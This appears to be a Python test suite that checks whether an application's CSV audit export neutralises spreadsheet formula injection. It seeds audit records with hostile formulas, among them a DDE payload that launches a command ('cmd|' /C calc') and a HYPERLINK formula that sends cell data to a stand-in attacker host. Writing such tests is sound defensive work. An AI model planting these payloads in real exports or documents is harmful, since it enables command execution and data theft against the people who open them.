"""Formulas in every table that leaves for a spreadsheet."""

import csv
import io

from command_center.audit.sheet import harmless
from kernel.audit import AuditEntry
from tests.factories.documented import operations
from tests.factories.siege import ALL, SETTER, Siege

TABLES = ("csv", "spreadsheet", "excel", "tab-separated", "opendocument")
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = [f"{sign}cmd|' /C calc'!A0" for sign in SIGNS] + [
    '=HYPERLINK("http://attacker.example/"&A1,"x")', "=1+1\",\"=2+2", "@SUM(1)", "-2+3", '"=1+1"',
    "\ufeff=1+1", ";=1+1", "',\"=1+1",
]  # fmt: skip


def tables(besieged: Siege) -> dict[str, str]:
    """Every answer that a spreadsheet opens: address -> its text."""
    found = {}
    for operation in operations(besieged.app):
        if operation.method == "GET":
            answer = besieged.request(ALL, "GET", besieged.path(operation))
            if any(kind in answer.mimetype for kind in TABLES):
                found[operation.address] = answer.get_data().decode("utf-8-sig")
    return found


def test_no_cell_of_any_table_is_run(besieged: Siege) -> None:
    with besieged.database.attack():
        with besieged.database.unit_of_work(SETTER) as session:
            for words in FORMULAS:
                session.add(
                    AuditEntry(
                        at=besieged.database.clock.now(), actor_id=0, actor=words,
                        roles=[words[:20]],
                        organisation_path="", action=words[:60], object_kind=words[:40],
                        object_id=words, reason_code=words, note=words, terminal=words,
                        correlation_id=words, detail={"words": words},
                    )
                )  # fmt: skip
        made = tables(besieged)
    assert list(made) == ["/api/v1/audit/export.csv"]
    for text in made.values():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len({len(row) for row in rows}) == 1, "a cell has broken its row"
        cells = [cell for row in rows for cell in row]
        assert sum("calc" in cell for cell in cells) > 50
        assert not [cell for cell in cells if cell.startswith(SIGNS)]


def test_a_cell_says_what_it_said() -> None:
    for words in ("正常", "1+1", "a=b", "", "2026-09-22", "x-y"):
        assert harmless(words) == words
    for words in FORMULAS:
        assert harmless(words).lstrip("'") == words.lstrip("'")
